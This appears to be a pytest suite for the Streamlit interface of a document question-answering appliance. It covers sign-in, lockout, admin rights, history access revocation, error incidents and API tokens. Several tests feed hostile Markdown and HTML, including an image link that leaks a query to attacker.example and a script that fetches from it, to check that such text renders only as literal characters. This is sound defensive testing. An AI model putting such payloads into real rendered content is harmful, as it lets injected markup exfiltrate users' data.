"""The UI's pages, run headless by Streamlit's AppTest against the real index (and, for the
streamed answer, the real LLM server)."""

from __future__ import annotations

import html
import json
import logging
import re
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import streamlit as st
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

import appliance.users
from appliance.audit import AuditLog
from appliance.conversations import ConversationStore
from appliance.users import ScryptCost, UserDirectory
from llm.answer import Answer, Citation
from ops.tools.pdf_writer import one_page_text_pdf
from settings import PROJECT_ROOT, Settings
from ui.safe import WORD_JOINER, literal_label, literal_markdown

APP = str(PROJECT_ROOT / "ui" / "app.py")
REFUSAL_SHOWN = "The documents do not contain the answer to this question"


@pytest.fixture
def app_env(
    ingested: Settings, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> Iterator[Settings]:
    """The ingested sample share with the UI's own state (users, history, audit) in a fresh
    data dir per test: the index is shared, read-only."""
    data = tmp_path / "data"
    data.mkdir()
    for name in ("index", "ledger.sqlite3"):
        (data / name).symlink_to(ingested.data_dir / name)
    monkeypatch.setenv("RAG_DATA_DIR", str(data))
    settings = Settings(data_dir=data)
    users = UserDirectory(settings.users_path)
    with monkeypatch.context() as cheaper:
        # Added at the first format's cost to save time; signing in rehashes at the real one.
        cheaper.setattr(appliance.users, "PASSWORD_COST", ScryptCost(log2_n=14, r=8, p=1))
        users.add("erika", "erika-password", ["staff"])
        users.add("jonas", "jonas-password", ["staff"])
        users.add("root-admin", "admin-password", [], admin=True)
    users.close()
    st.cache_resource.clear()
    st.cache_data.clear()
    yield settings
    st.cache_resource.clear()
    st.cache_data.clear()


def signed_in(
    at: AppTest, name: str = "erika", password: str = "erika-password", timeout: int = 120
) -> AppTest:
    at.run(timeout=60)
    inputs = {widget.label: widget for widget in at.text_input}
    inputs["Username"].input(name)
    inputs["Password"].input(password)
    next(b for b in at.button if b.label == "Sign in").click()
    return at.run(timeout=timeout)


def rendered(markdown: str) -> str:
    """What a reader sees of a line of Markdown: its text, without tags or invisible joiners."""
    shown = re.sub(r"<[^>]+>", "", MarkdownIt("commonmark").renderInline(markdown))
    return html.unescape(shown).replace(WORD_JOINER, "")


def page_text(at: AppTest) -> str:
    return "\n".join(m.value for m in at.markdown) + "\n".join(e.label for e in at.expander)


def ask(at: AppTest, question: str, timeout: int = 180) -> AppTest:
    at.chat_input[0].set_value(question)
    return at.run(timeout=timeout)


def test_only_the_sign_in_form_shows_before_signing_in(app_env: Settings) -> None:
    at = AppTest.from_file(APP)
    at.run(timeout=60)
    assert [w.label for w in at.text_input] == ["Username", "Password"]
    assert [b.label for b in at.button] == ["Sign in"]
    assert len(at.chat_input) == 0


def test_a_wrong_password_is_refused(app_env: Settings) -> None:
    at = signed_in(AppTest.from_file(APP), password="not-the-password")
    assert [e.value for e in at.error] == ["Unknown username or wrong password."]
    assert len(at.chat_input) == 0


@pytest.mark.integration
def test_a_question_gets_a_streamed_answer_with_its_source(
    app_env: Settings, llm_settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RAG_LLM__PORT", str(llm_settings.llm.port))
    at = signed_in(AppTest.from_file(APP))
    at.chat_input[0].set_value("What is the approved budget of the Harbour Renovation Project?")
    at.run(timeout=180)
    text = page_text(at)
    assert "4,750,000" in text
    assert any("harbour-renovation-memo.png" in rendered(e.label) for e in at.expander)


def test_an_unanswerable_question_is_refused_with_the_closest_passages(
    app_env: Settings,
) -> None:
    at = ask(signed_in(AppTest.from_file(APP)), "Who won the football world cup in 2014?")
    assert REFUSAL_SHOWN in page_text(at)
    assert "Closest passages found" in [c.value for c in at.caption]
    assert at.expander, "the closest passages are shown"


def test_the_sign_in_form_follows_the_language_setting(
    app_env: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RAG_UI__LANGUAGE", "de")
    at = AppTest.from_file(APP).run(timeout=60)
    assert [w.label for w in at.text_input] == ["Benutzername", "Passwort"]
    assert [b.label for b in at.button] == ["Anmelden"]


def test_repeated_wrong_passwords_lock_the_client_out_and_are_audited(
    app_env: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RAG_UI__MAX_FAILED_SIGN_INS", "2")
    for _ in range(2):
        at = signed_in(AppTest.from_file(APP), password="not-the-password")
        assert [e.value for e in at.error] == ["Unknown username or wrong password."]
    # Locked now: even the right password is refused until the window has passed.
    at = signed_in(AppTest.from_file(APP))
    assert [e.value for e in at.error] == ["Too many failed sign-ins. Try again in 15 minutes."]
    assert len(at.chat_input) == 0
    events = AuditLog(app_env.audit_path, 365).events()
    assert [e.action for e in events] == ["login_locked", "login_failed", "login_failed"]
    # AppTest's connection has no address (Streamlit gives a mock): all count as "unknown".
    assert {e.detail["address"] for e in events} == {"unknown"}


def test_an_expired_session_returns_to_the_sign_in_form(app_env: Settings) -> None:
    at = signed_in(AppTest.from_file(APP))
    assert len(at.chat_input) == 1
    at.session_state["signed_in_at"] = 0.0  # signed in at the epoch: long expired
    at.run(timeout=60)
    assert len(at.chat_input) == 0
    assert [i.value for i in at.info] == ["Your session has expired. Please sign in again."]


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (lambda users: users.remove("root-admin"), "removed"),
        (lambda users: users.add("root-admin", "admin-password", [], admin=False), "changed"),
        (lambda users: users.add("root-admin", "admin-password", ["hr"], admin=True), "changed"),
    ],
    ids=["removed", "demoted", "regrouped"],
)
def test_removed_admin_loses_admin_on_next_request(
    app_env: Settings, change: Callable[[UserDirectory], object], reason: str
) -> None:
    at = signed_in(AppTest.from_file(APP), "root-admin", "admin-password")
    assert at.session_state["user"].admin and len(at.chat_input) == 1
    change(UserDirectory(app_env.users_path))
    at.run(timeout=60)  # the admin's next click
    assert "user" not in at.session_state
    assert [w.label for w in at.text_input] == ["Username", "Password"]
    assert len(at.chat_input) == 0
    assert [i.value for i in at.info] == [
        "Your account was changed or removed. Please sign in again."
    ]
    ended = AuditLog(app_env.audit_path, 365).events()[0]
    assert (ended.user, ended.action, ended.detail) == ("root-admin", "logout", {"reason": reason})


def test_an_unchanged_user_stays_signed_in_across_requests(app_env: Settings) -> None:
    at = signed_in(AppTest.from_file(APP))
    UserDirectory(app_env.users_path).add("jonas", "jonas-password", ["finance"])
    at.run(timeout=60)
    assert len(at.chat_input) == 1 and at.session_state["user"].name == "erika"


def test_a_conversation_is_kept_for_its_user_only(app_env: Settings) -> None:
    at = ask(signed_in(AppTest.from_file(APP)), "Who won the football world cup in 2014?")
    assert REFUSAL_SHOWN in page_text(at)
    # Signed in again, in a new browser session: the conversation is in the sidebar.
    again = signed_in(AppTest.from_file(APP))
    titles = [b.label for b in again.sidebar.button]
    assert "Who won the football world cup in 2014?" in titles
    next(b for b in again.sidebar.button if b.label.startswith("Who won")).click()
    again.run(timeout=60)
    assert "Who won the football world cup in 2014?" in page_text(again)
    assert REFUSAL_SHOWN in page_text(again)
    # A colleague sees nothing of it.
    other = signed_in(AppTest.from_file(APP), "jonas", "jonas-password")
    assert not [b for b in other.sidebar.button if b.label.startswith("Who won")]
    stored = ConversationStore(app_env.history_path)
    assert [c.title for c in stored.list("erika")] == ["Who won the football world cup in 2014?"]
    assert stored.list("jonas") == []
    events = AuditLog(app_env.audit_path, 365).events()
    asked = next(e for e in events if e.action == "ask")
    assert asked.user == "erika" and asked.detail["refused"] is True
    # Its latency is kept for `rag metrics`; a refusal streamed nothing, so no first token.
    assert isinstance(asked.detail["ms"], int) and "first_token_ms" not in asked.detail


def test_a_conversation_can_be_renamed_and_deleted(app_env: Settings) -> None:
    at = ask(signed_in(AppTest.from_file(APP)), "Who won the football world cup in 2014?")
    title = next(w for w in at.sidebar.text_input if w.key == "rename-title")
    title.input("Football")
    next(b for b in at.sidebar.button if b.key == "rename-save").click()
    at.run(timeout=60)
    assert "Football" in [b.label for b in at.sidebar.button]
    next(b for b in at.sidebar.button if b.key == "delete-conversation").click()
    at.run(timeout=60)
    assert "Football" not in [b.label for b in at.sidebar.button]
    assert ConversationStore(app_env.history_path).list("erika") == []


def test_feedback_on_an_answer_is_stored_with_its_comment(app_env: Settings) -> None:
    from appliance.feedback import FeedbackStore

    at = ask(signed_in(AppTest.from_file(APP)), "Who won the football world cup in 2014?")
    at.feedback[0].set_value(1).run(timeout=60)
    next(w for w in at.text_input if w.label == "Comment (optional)").input("Right to refuse")
    next(b for b in at.button if b.label == "Send").click()
    at.run(timeout=60)
    assert "Thank you for your feedback." in [c.value for c in at.caption]
    (stored,) = FeedbackStore(app_env.feedback_path).list()
    assert (stored.user, stored.rating, stored.comment) == ("erika", "up", "Right to refuse")
    assert stored.question == "Who won the football world cup in 2014?" and stored.refused


def page_of(function_name: str, module: str) -> str:
    """A script that shows one page for the signed-in user in session state."""
    return (
        "import sys\n"
        f"sys.path.insert(0, {str(PROJECT_ROOT)!r})\n"
        f"from {module} import {function_name}\n"
        f"{function_name}()\n"
    )


def as_user(at: AppTest, settings: Settings, name: str) -> AppTest:
    at.session_state["user"] = UserDirectory(settings.users_path).get(name)
    at.session_state["signed_in_at"] = 1e12
    return at.run(timeout=60)


def test_the_library_lists_the_documents_the_user_may_read(app_env: Settings) -> None:
    at = as_user(AppTest.from_string(page_of("library_page", "ui.library")), app_env, "erika")
    names = list(at.dataframe[0].value["Name"])
    assert "harbour-renovation-memo.png" in names and "travel-and-expenses.md" in names
    assert len(at.dataframe) == 1, "only admins see the failed files"
    next(w for w in at.text_input if w.label == "Search by name").input("memo")
    at.run(timeout=60)
    assert list(at.dataframe[0].value["Name"]) == ["harbour-renovation-memo.png"]


def test_the_admin_page_is_for_admins_and_adds_users(app_env: Settings) -> None:
    script = page_of("admin_page", "ui.admin")
    at = as_user(AppTest.from_string(script), app_env, "erika")
    assert not at.subheader, "an ordinary user sees nothing of the admin page"
    at = as_user(AppTest.from_string(script), app_env, "root-admin")
    assert "Users" in [h.value for h in at.subheader]
    form = {w.key: w for w in at.text_input}
    form["new-user-name"].input("lena")
    form["new-user-password"].input("lena-password")
    form["new-user-groups"].input("finance, staff")
    next(b for b in at.button if b.label == "Add user").click()
    at.run(timeout=60)
    added = UserDirectory(app_env.users_path).get("lena")
    assert added.groups == ("finance", "staff") and not added.admin
    at.selectbox(key="remove-user-name").set_value("jonas")
    next(b for b in at.button if b.label == "Remove user").click()
    at.run(timeout=60)
    assert [u.name for u in UserDirectory(app_env.users_path).list()] == [
        "erika", "lena", "root-admin",
    ]  # fmt: skip
    actions = [e.action for e in AuditLog(app_env.audit_path, 365).events()]
    assert actions[:2] == ["user_remove", "user_add"]


def add_user_form(at: AppTest, name: str, groups: str, admin: bool) -> AppTest:
    form = {w.key: w for w in at.text_input}
    form["new-user-name"].input(name)
    form["new-user-password"].input("a-new-password")
    form["new-user-groups"].input(groups)
    box = at.checkbox(key="new-user-admin")
    if admin:
        box.check()
    else:
        box.uncheck()
    next(b for b in at.button if b.label == "Add user").click()
    return at.run(timeout=60)


def test_admin_cannot_grant_themselves_a_group(app_env: Settings) -> None:
    script = page_of("admin_page", "ui.admin")
    at = as_user(AppTest.from_string(script), app_env, "root-admin")
    at = add_user_form(at, "root-admin", "hr, finance", admin=True)
    refused = "Only another administrator can change your own groups or role."
    assert [e.value for e in at.error] == [refused]
    # Nor drop their own admin role (the box left unticked).
    at = add_user_form(at, "root-admin", "", admin=False)
    assert [e.value for e in at.error] == [refused]
    stored = UserDirectory(app_env.users_path).get("root-admin")
    assert (stored.groups, stored.admin) == ((), True)
    events = AuditLog(app_env.audit_path, 365).events()
    assert [(e.user, e.action) for e in events[:2]] == [("root-admin", "user_change_refused")] * 2
    assert events[1].detail == {
        "user": "root-admin", "groups": ["finance", "hr"], "admin": True, "reason": "own account",
        "via": "ui",
    }  # fmt: skip
    # Another admin may; and the same admin may still give others groups.
    at = add_user_form(at, "erika", "staff, hr", admin=False)
    assert not at.error
    assert UserDirectory(app_env.users_path).get("erika").groups == ("hr", "staff")


def test_an_admin_who_reads_everything_anyway_may_change_their_own_groups(
    app_env: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RAG_ACCESS__ADMINS_READ_EVERYTHING", "true")
    at = as_user(AppTest.from_string(page_of("admin_page", "ui.admin")), app_env, "root-admin")
    at = add_user_form(at, "root-admin", "hr", admin=True)
    assert not at.error
    assert UserDirectory(app_env.users_path).get("root-admin").groups == ("hr",)


def test_an_admin_starts_an_ingestion_run_and_sees_it_finish(
    app_env: Settings, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    share = tmp_path / "share"
    share.mkdir()
    (share / "canteen.md").write_text("# Canteen\n\nThe canteen opens at 11:30 on weekdays.\n")
    monkeypatch.setenv("RAG_INGEST__SHARES", f'["{share}"]')
    # The run writes an index of its own: this test's data dir gets a real one.
    (app_env.data_dir / "index").unlink()
    (app_env.data_dir / "ledger.sqlite3").unlink()
    at = as_user(AppTest.from_string(page_of("admin_page", "ui.admin")), app_env, "root-admin")
    next(b for b in at.button if b.label == "Start ingestion").click()
    at.run(timeout=60)
    progress = app_env.run_dir / "ui-ingest.progress.json"
    deadline = time.monotonic() + 240
    while '"finished"' not in progress.read_text() and time.monotonic() < deadline:
        time.sleep(1)
    at.run(timeout=60)
    assert "Ingestion finished: 1 indexed, 0 failed." in [s.value for s in at.success]
    events = [e.action for e in AuditLog(app_env.audit_path, 365).events()]
    assert "ingest" in events
    # And erases the document again.
    at.text_input(key="erase-path").input(str(share / "canteen.md"))
    at.checkbox(key="erase-confirm").check()
    next(b for b in at.button if b.label == "Erase a document").click()
    at.run(timeout=300)
    assert "Erased: 1 passages removed, 0 left." in [s.value for s in at.success]
    erased = AuditLog(app_env.audit_path, 365).events()[0]
    assert (erased.action, erased.user) == ("erase", "root-admin")


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](http://attacker.example/leak?q=secret)",
        "[click](http://attacker.example/) <img src=http://attacker.example/p.png>",
        "<script>fetch('http://attacker.example')</script> **bold**",
        "<http://attacker.example/autolink>",
    ],
)
def test_document_text_renders_as_text_never_as_links_or_images(hostile: str) -> None:
    html = MarkdownIt("commonmark").render(literal_markdown(hostile))
    assert "<img" not in html and "<a " not in html and "<script" not in html
    assert "attacker.example" in html  # shown, as characters


def test_a_label_is_one_line_that_reads_as_the_name_whatever_the_name_holds() -> None:
    name = "minutes\n# Heading\t**bold** ![x](http://attacker.example/p.png)\x1b[31m.pdf"
    label = literal_label(name)
    assert "\n" not in label and "\x1b" not in label
    html = MarkdownIt("commonmark").renderInline(label)
    assert "<img" not in html and "<strong" not in html and "<h1" not in html
    shown = "minutes # Heading **bold** ![x](http://attacker.example/p.png) [31m.pdf"
    assert rendered(label) == shown


def test_bare_web_and_mail_addresses_cannot_become_links() -> None:
    # Streamlit's Markdown links bare addresses itself (GitHub's flavour), escaped or not.
    text = "Mail bob@corp.example, see https://corp.example/x, HTTP://y.example or www.z.example"
    shown = literal_markdown(text).replace("\\", "")
    assert shown.replace(WORD_JOINER, "") == text
    for pattern in ("https:", "http:", "HTTP:", "www.", "b@"):
        assert pattern not in shown, pattern


# -- stored conversations, shown again over a share of the test's own -------------------------

# A file name that is Markdown for an image: rendered, the browser would fetch the address.
MARKDOWN_FILE_NAME = "Q3 report ![](http:host?doc=q3).md"
SOUP_PDF = "canteen-prices.pdf"
SOUP_FACT = "3.20 EUR"
# AppTest leaves the page script installed as `__main__`, which ingestion's worker processes
# would then run: a run in this process is started with pytest's own.
PYTEST_MAIN = sys.modules["__main__"]


def reindex(settings: Settings, share: Path, embedder: Any) -> None:
    """An ingestion run of the share into the settings' data dir, as `rag ingest` makes."""
    from ingest.ledger import Ledger
    from ingest.pipeline import Ingestor
    from retrieval.build import build_store

    ledger, index = Ledger(settings.ledger_path), build_store(settings)
    try:
        with pytest.MonkeyPatch.context() as patch:
            patch.setitem(sys.modules, "__main__", PYTEST_MAIN)
            report = Ingestor(settings, embedder, index, ledger).run([str(share)])
    finally:
        ledger.close()
        index.close()
    assert not report.failed, report.failed


@pytest.fixture
def own_share(app_env: Settings, embedder: Any, tmp_path: Path) -> Path:
    """A share ingested into the test's data dir (in place of the session's index): a file
    whose name is Markdown, and a one-page PDF."""
    finance = tmp_path / "share" / "finance"
    finance.mkdir(parents=True)
    (finance / MARKDOWN_FILE_NAME).write_text(
        "# Q3 report\n\nThe Q3 revenue of the harbour shop was 812,000 EUR.\n"
    )
    (finance / SOUP_PDF).write_bytes(
        one_page_text_pdf([f"Canteen prices: the soup of the day costs {SOUP_FACT}."])
    )
    for name in ("index", "ledger.sqlite3"):
        (app_env.data_dir / name).unlink()
    reindex(app_env, finance.parent, embedder)
    return finance.parent


def conversation_about(
    settings: Settings, embedder: Any, question: str, source: str, user: str = "erika"
) -> str:
    """A conversation of the user's whose one turn cites the passage found for the question
    (which must come from `source`), stored as the chat stores an answer; returns its id."""
    from retrieval.build import build_sparse, build_store
    from retrieval.retriever import Retriever

    index = build_store(settings)
    try:
        scope = UserDirectory(settings.users_path).get(user).reading_scope(False)
        hits = Retriever(embedder, index, build_sparse(settings)).search(question, scope, 1)
    finally:
        index.close()
    (best,) = hits
    assert Path(best.chunk.path).name == source
    cited = Citation(best.chunk.path, best.chunk.page, best.chunk.id)
    answer = Answer("See the source [1].", False, [cited], hits)
    history = ConversationStore(settings.history_path)
    try:
        conversation = history.create(user, question)
        history.add_turn(user, conversation.id, question, answer)
    finally:
        history.close()
    return conversation.id


def reopened(settings: Settings, conversation_id: str, user: str = "erika") -> AppTest:
    """The chat page of the user, with the conversation open (picked in the sidebar)."""
    at = AppTest.from_string(page_of("chat_page", "ui.chat"))
    at.session_state["conversation_id"] = conversation_id
    return as_user(at, settings, user)


def shown_text(at: AppTest) -> str:
    """The main area's text as a reader sees it: messages, captions and source titles."""
    parts = [*(m.value for m in at.main.markdown), *(c.value for c in at.main.caption)]
    return "\n".join(rendered(part) for part in [*parts, *(e.label for e in at.main.expander)])


def test_a_markdown_file_name_is_shown_as_its_literal_name_in_the_source_label(
    own_share: Path, app_env: Settings, embedder: Any
) -> None:
    question = "What was the Q3 revenue of the harbour shop?"
    at = reopened(app_env, conversation_about(app_env, embedder, question, MARKDOWN_FILE_NAME))
    (label,) = [e.label for e in at.main.expander]
    assert "<img" not in MarkdownIt("commonmark").renderInline(label)
    assert rendered(label) == f"[1] {MARKDOWN_FILE_NAME} — {own_share / 'finance'}"


def revoke_read_access(settings: Settings, share: Path, name: str, embedder: Any) -> None:
    """The file becomes its owner's alone, and the next ingestion run takes that in."""
    (share / "finance" / name).chmod(0o600)
    reindex(settings, share, embedder)


def test_history_withholds_passages_the_reader_lost_access_to(
    own_share: Path, app_env: Settings, embedder: Any
) -> None:
    question = "How much does the soup of the day cost?"
    at = reopened(app_env, conversation_about(app_env, embedder, question, SOUP_PDF))
    assert SOUP_FACT in shown_text(at) and SOUP_PDF in shown_text(at)

    revoke_read_access(app_env, own_share, SOUP_PDF, embedder)
    at.run(timeout=60)  # erika opens the conversation again
    assert question in shown_text(at)  # her question and the answer she was given stay
    assert SOUP_FACT not in shown_text(at) and SOUP_PDF not in shown_text(at)
    assert not at.main.expander
    assert "[1] This source is no longer available to you." in shown_text(at)


def test_page_image_is_not_rendered_after_access_was_revoked(
    own_share: Path, app_env: Settings, embedder: Any
) -> None:
    question = "How much does the soup of the day cost?"
    at = reopened(app_env, conversation_about(app_env, embedder, question, SOUP_PDF))
    assert len(at.main.image) == 1  # the page, while she may read it

    revoke_read_access(app_env, own_share, SOUP_PDF, embedder)
    at.run(timeout=60)
    assert len(at.main.image) == 0


# -- a page that fails -------------------------------------------------------------------------

SECRET_IN_ERROR = "The salary of the director is 212,000 EUR"


def test_a_failing_page_shows_one_line_with_an_incident_id_and_logs_the_rest(
    app_env: Settings, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(*args: object) -> list[Any]:
        raise RuntimeError(f"cannot list conversations near: {SECRET_IN_ERROR}")

    monkeypatch.setattr(ConversationStore, "list", broken)  # the fault, injected
    with caplog.at_level(logging.ERROR, logger="ui.incident"):
        at = signed_in(AppTest.from_file(APP))
    assert not at.exception, "Streamlit showed the exception (and its traceback)"
    (line,) = [e.value for e in at.error]
    match = re.fullmatch(
        r"Something went wrong \(incident ([0-9a-f]{8})\)\. Try again; if it persists, give "
        r"this incident number to your administrator\.",
        line,
    )
    assert match, line
    shown = "\n".join([*(m.value for m in at.markdown), *(e.value for e in at.error)])
    assert "Traceback" not in shown and "RuntimeError" not in shown and "212" not in shown

    from ui.incident import JsonLines

    (record,) = caplog.records
    logged = json.loads(JsonLines().format(record))
    assert logged["incident"] == match[1] and logged["error"] == "RuntimeError"
    assert any("ui/chat.py" in frame and "conversation_list" in frame for frame in logged["stack"])
    assert "212" not in JsonLines().format(record)


def test_an_admin_creates_and_revokes_a_users_api_token(app_env: Settings) -> None:
    from appliance.errors import Unauthorized
    from appliance.tokens import TokenStore

    script = page_of("admin_page", "ui.admin")
    at = as_user(AppTest.from_string(script), app_env, "root-admin")
    at.selectbox(key="token-user").select("erika")
    at.text_input(key="token-label").input("Open WebUI")
    at.number_input(key="token-days").set_value(30)
    next(b for b in at.button if b.label == "Create token").click()
    at.run(timeout=60)
    (shown,) = [block.value for block in at.code]
    assert shown.startswith("rag_")
    assert "shown only now" in " ".join(s.value for s in at.success)
    tokens = TokenStore(app_env.tokens_path)
    token = tokens.verify(shown)
    assert (token.user, token.name, token.expires is not None) == ("erika", "Open WebUI", True)
    listed = at.dataframe[-1].value
    assert list(listed["id"]) == [token.id] and shown not in listed.to_string()
    at.run(timeout=60)
    assert not at.code, "the secret is shown once"

    at.selectbox(key="revoke-token-id").select(token.id)
    next(b for b in at.button if b.label == "Revoke token").click()
    at.run(timeout=60)
    with pytest.raises(Unauthorized, match="revoked"):
        tokens.verify(shown)
    events = AuditLog(app_env.audit_path, 365).events(2)
    assert [(e.user, e.action, e.detail["via"]) for e in events] == [
        ("root-admin", "token_revoke", "ui"), ("root-admin", "token_create", "ui"),
    ]  # fmt: skip
    assert all(shown not in json.dumps(e.detail) for e in events)
